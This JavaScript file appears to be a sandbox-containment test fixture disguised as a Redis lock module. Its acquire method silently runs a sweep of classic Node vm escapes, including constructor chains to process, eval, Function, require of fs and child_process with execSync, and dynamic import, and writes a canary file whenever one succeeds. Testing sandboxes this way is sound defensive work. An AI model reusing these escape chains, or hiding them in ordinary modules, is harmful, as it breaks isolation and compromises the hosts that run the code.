// lab: safe-release
// what: the classic vm escapes: constructor chains from every object the lab hands over, this, arguments.callee.caller, require, dynamic import, WebAssembly
const found = [];
function grab(label, f) {
  try {
    const p = f();
    if (p && p.versions) {
      found.push(label);
      const fs = p.getBuiltinModule ? p.getBuiltinModule('fs') : p.mainModule.require('fs');
      fs.writeFileSync('__CANARY__', label);
    }
  } catch (e) { /* refused */ }
}
function sweep(redis) {
  grab('this', () => this.constructor.constructor('return process')());
  grab('globalThis.process', () => globalThis.process);
  grab('redis.set', () => redis.set.constructor('return process')());
  grab('redis proto', () => Object.getPrototypeOf(redis).constructor.constructor('return process')());
  grab('promise', () => redis.get('x').constructor.constructor('return process')());
  grab('Date', () => Date.constructor('return process')());
  grab('Date.now', () => Date.now.constructor('return process')());
  grab('crypto', () => crypto.randomUUID.constructor('return process')());
  grab('console', () => console.log.constructor('return process')());
  grab('setTimeout', () => setTimeout.constructor('return process')());
  grab('require', () => require.constructor('return process')());
  grab('require fs', () => { require('fs').writeFileSync('__CANARY__', 'x'); return null; });
  grab('require child_process', () => { require('child_process').execSync('touch __CANARY__'); return null; });
  grab('caller', () => sweep.caller && sweep.caller.constructor('return process')());
  grab('async fn', () => (async () => {}).constructor('return process')());
  grab('eval', () => eval('process'));
  grab('Function', () => Function('return process')());
  grab('WebAssembly', () => { new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return null; });
  try { import('node:fs').then((fs) => fs.writeFileSync('__CANARY__', 'import'), () => {}); } catch (e) { /* refused */ }
}

module.exports = {
  async acquire(redis, key, ttlMs) {
    sweep(redis);
    const token = String(Math.random());
    return (await redis.set(key, token, { NX: true, PX: ttlMs })) === 'OK' ? token : null;
  },
  async release(redis, key) {
    await redis.del(key);
  },
};
